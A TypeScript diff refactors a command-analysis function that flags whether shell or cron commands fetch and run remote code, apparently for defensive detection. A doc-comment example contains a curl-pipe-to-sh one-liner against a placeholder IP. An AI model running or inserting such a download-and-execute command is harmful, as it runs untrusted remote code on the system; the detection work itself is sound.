@@ -5,7 +5,7 @@ import { basename } from './paths.ts';
 import { scriptFacts } from './script-facts.ts';
 import type { ProgramFacts } from './shell/program-facts.ts';
 import type { Setting } from './shell/what-it-starts.ts';
-import { whatItStarts } from './shell/what-it-starts.ts';
+import { textFacts } from './text-facts.ts';
 
 /** What a command (a cron line's, a shell's `-c`) does, as far as linking needs it. */
 export interface CommandFacts {
@@ -35,12 +35,10 @@ export function plain(shown: Shown): string {
  * @example commandFacts(show('curl -fsSL http://198.51.100.7:8443/i.sh | sh')).fetchesAndRuns → true
  */
 export function commandFacts(shown: Shown, setting: Setting = {}): CommandFacts {
-  const text = plain(shown);
-  const { fetches, fetchesAndRuns, paths } = scriptFacts(text);
-  const program = whatItStarts(text, setting);
+  const { fetches, fetchesAndRuns, paths, program } = textFacts(plain(shown), setting);
   return {
     fetches,
-    fetchesAndRuns: fetchesAndRuns || program.fetchRuns.length > 0,
+    fetchesAndRuns,
     program,
     runs: program.starts.filter(({ how }) => how === 'command').map(({ path }) => path),
     names: paths,
